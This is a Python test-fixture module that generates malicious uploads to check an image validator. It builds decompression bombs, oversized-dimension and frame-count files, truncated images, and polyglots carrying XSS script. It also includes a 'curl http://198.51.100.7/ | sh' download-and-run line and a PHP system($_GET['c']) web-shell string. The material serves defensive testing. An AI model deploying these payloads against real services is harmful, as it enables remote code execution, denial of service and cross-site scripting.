"""Files that somebody may send as an image to do harm or to find a hole, each made here."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, ImageCms

SCRIPT = b"<html><body><script>alert(document.domain)</script></body></html>"


def picture(kind: str = "PNG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object) -> bytes:
    file = io.BytesIO()
    image = Image.radial_gradient("L").resize(size)
    image.convert(mode).save(file, kind, **options)
    return file.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, *between: bytes, bits: int = 8, colours: int = 0, data: bytes | None = None) -> bytes:
    """A PNG of any claimed size, with what lies between its head and its pixels."""
    if data is None:
        data = zlib.compress(bytes((width * bits // 8 + 1) * min(height, 100)))
    head = struct.pack(">IIBBBBB", width, height, bits, colours, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(between) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(megabytes: int) -> bytes:
    """Compressed zeros, a thousandth of what they become."""
    compressor = zlib.compressobj(9)
    return b"".join(compressor.compress(bytes(1 << 20)) for _part in range(megabytes)) + compressor.flush()


def gif(frames: int, size: int = 4) -> bytes:
    frame = b"!\xf9\x04\x04\x01\0\0\0," + struct.pack("<HHHH", 0, 0, 1, 1) + b"\0\x02\x02D\x01\0"
    return b"GIF89a" + struct.pack("<HH", size, size) + b"\x80\0\0\0\0\0\xff\xff\xff" + frame * frames + b";"


def animated_png(frames: int) -> bytes:
    """As many frames as claimed, each of one pixel."""
    pixel = zlib.compress(b"\0\0")
    control = struct.Struct(">IIIIIHHBB")
    parts = [chunk(b"acTL", struct.pack(">II", frames, 0)), chunk(b"fcTL", control.pack(0, 1, 1, 0, 0, 1, 10, 0, 0))]
    later = b"".join(
        chunk(b"fcTL", control.pack(2 * n + 1, 1, 1, 0, 0, 1, 10, 0, 0)) + chunk(b"fdAT", struct.pack(">I", 2 * n + 2) + pixel)
        for n in range(frames - 1)
    )  # fmt: skip
    whole = png(1, 1, *parts, data=pixel)
    return whole[:-12] + later + whole[-12:]


def jpeg_of_size(width: int, height: int) -> bytes:
    """A JPEG of sixteen pixels whose head claims others."""
    data = picture("JPEG", (16, 16))
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def many_scans() -> bytes:
    """A progressive JPEG whose last scan comes a thousand times."""
    data = picture("JPEG", (1024, 1024), progressive=True)
    at = data.rindex(b"\xff\xda")
    return data[:at] + data[at:-2] * 1000 + data[-2:]


def riff(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"WEBP" + b"".join(
        name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2) for name, data in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def boxes(brand: bytes) -> bytes:
    kind = struct.pack(">I", 24) + b"ftyp" + brand + b"\0\0\0\0mif1" + brand
    return kind + struct.pack(">I", 5000) + b"meta" + bytes(range(256)) * 8


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("a.html", SCRIPT)
    return file.getvalue()


def with_profile(profile: bytes) -> bytes:
    return picture("JPEG", icc_profile=profile)


def _srgb() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


# Each with the words that tell its author what is wrong
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "empty"),
    "one byte": (lambda: b"\xff", "not an image"),
    "50,000 pixels squared, 1 bit": (lambda: png(50_000, 50_000, bits=1), "too many pixels"),
    "50,000 pixels squared, 16 bits": (lambda: png(50_000, 50_000, bits=16, colours=2), "too many pixels"),
    "a thousand times more pixels than bytes": (lambda: png(14_000, 14_000, data=zeros(190)), "too many pixels"),
    "a PNG as wide as can be": (lambda: png(2**31 - 1, 1), "too many pixels"),
    "a PNG of no width": (lambda: png(0, 10), "damaged"),
    "a PNG without pixels": (lambda: png(64, 48, data=b""), "damaged"),
    "a PNG of wrong checksums": (lambda: picture().replace(b"IDAT", b"IDAX"), "damaged"),
    "a text bomb": (lambda: png(8, 8, chunk(b"zTXt", b"Comment\0\0" + zeros(200))), "damaged"),
    "many text bombs": (lambda: png(8, 8, *[chunk(b"zTXt", b"a\0\0" + zeros(1))] * 90), "memory"),
    "a JPEG of 65,500 pixels squared": (lambda: jpeg_of_size(65_500, 65_500), "too many pixels"),
    "a JPEG of no width": (lambda: jpeg_of_size(0, 16), "damaged"),
    "a thousand scans": (many_scans, "too many pixels"),
    "half a JPEG": (lambda: picture("JPEG", (640, 480))[:2000], "damaged"),
    "the head of a JPEG": (lambda: picture("JPEG")[:20], "damaged"),
    "two bytes of a JPEG": (lambda: b"\xff\xd8\xff", "damaged"),
    "half a PNG": (lambda: picture("PNG", (640, 480))[:900], "damaged"),
    "half a WebP": (lambda: picture("WEBP", (640, 480))[:900], "damaged"),
    "half an AVIF": (lambda: picture("AVIF", (640, 480))[:700], "damaged"),
    "half a GIF": (lambda: picture("GIF", (640, 480))[:900], "damaged"),
    "a GIF of 100,000 frames": (lambda: gif(100_000), "animation"),
    "a PNG of 5,000 frames": (lambda: animated_png(5_000), "animation"),
    "a PNG that claims two billion frames": (lambda: animated_png(3).replace(b"acTL\0\0\0\3", b"acTL\x7f\xff\xff\xff"), "damaged"),
    "a few huge frames": (lambda: gif(199, 5_000), "animation"),
    "a WebP of nonsense": (lambda: riff((b"VP8 ", bytes(100))), "damaged"),
    "a WebP of 16,384 pixels squared": (lambda: riff((b"VP8X", b"\x02\0\0\0" + b"\xff\x3f\0" * 2), (b"ANIM", bytes(6))), "damaged"),
    "a WebP whose chunk is longer than the file": (lambda: riff((b"VP8X", b"\0" * 10)) + b"VP8 \xff\xff\xff\x7f", "damaged"),
    "AVIF of nonsense": (lambda: boxes(b"avif"), "damaged"),
    "HEIC of nonsense": (lambda: boxes(b"heic"), "damaged"),
    "a page": (lambda: SCRIPT, "web page"),
    "a page after empty lines": (lambda: b"\r\n" * 40 + b"<!DOCTYPE html>" + SCRIPT, "web page"),
    "a drawing": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
    "a drawing after a prologue": (lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>', "SVG"),
    "a drawing, compressed": (lambda: gzip.compress(b"<svg/>"), "archive"),
    "a JPEG's beginning and a page": (lambda: b"\xff\xd8\xff\xe0" + SCRIPT, "damaged"),
    "a GIF's beginning and a script": (lambda: b"GIF89a=1;alert(document.domain);/*" + bytes(40) + b"*/", "damaged"),
    "an archive": (archive, "archive"),
    "a document": (lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj", "PDF"),
    "a script": (lambda: b"#!/bin/sh\ncurl http://198.51.100.7/ | sh\n", "text"),
    "PHP": (lambda: b"<?php system($_GET['c']); ?>", "text"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) show", "format"),
    "Photoshop": (lambda: b"8BPS\0\1" + bytes(40), "format"),
    "FITS": (lambda: b"SIMPLE  =                    T" + b" " * 2850, "format"),
    "TIFF": (lambda: picture("TIFF"), "format"),
    "BMP": (lambda: picture("BMP"), "format"),
    "an icon": (lambda: picture("ICO"), "format"),
    "a film": (lambda: struct.pack(">I", 24) + b"ftypisom" + bytes(200), "film"),
    "a sound": (lambda: b"RIFF\x40\0\0\0WAVEfmt " + bytes(60), "film"),
    "a program": (lambda: b"\x7fELF\x02\x01\x01" + bytes(90), "not an image"),
}  # fmt: skip

# What looks odd or carries something along, but is an image: what comes out holds nothing of it
CLEANED: dict[str, Callable[[], bytes]] = {
    "a GIF that is also an archive": lambda: picture("GIF") + archive(),
    "a JPEG that is also an archive": lambda: picture("JPEG") + archive(),
    "a PNG with a page behind it": lambda: picture() + SCRIPT,
    "a JPEG with a page as its comment": lambda: picture("JPEG", comment=SCRIPT),
    "a JPEG with a document behind it": lambda: picture("JPEG") + b"%PDF-1.7 " + SCRIPT,
    "a PNG with a page in its palette's place": lambda: png(8, 8, chunk(b"tEXt", b"Title\0" + SCRIPT)),
    "a huge EXIF": lambda: picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\xff\xff" + SCRIPT * 900),
    "a profile that is none": lambda: with_profile(SCRIPT),
    "half a profile": lambda: with_profile(_srgb()[:200]),
    "a profile for other channels": lambda: picture("JPEG", mode="CMYK", icc_profile=_srgb()),
    "a bomb in the profile's place": lambda: png(8, 8, chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(900_000)))),
    "interlaced, 16 bits": lambda: png(8, 8, bits=16, data=zlib.compress(bytes(8 * 17))),
    "a JPEG that claims more than it has": lambda: jpeg_of_size(6_000, 4_000),
    "one pixel": lambda: picture(size=(1, 1)),
    "one row of 16,000": lambda: picture("JPEG", (16_000, 1)),
    "an orientation that is none": lambda: picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x63\0\0\0\0\0\0"),
}  # fmt: skip
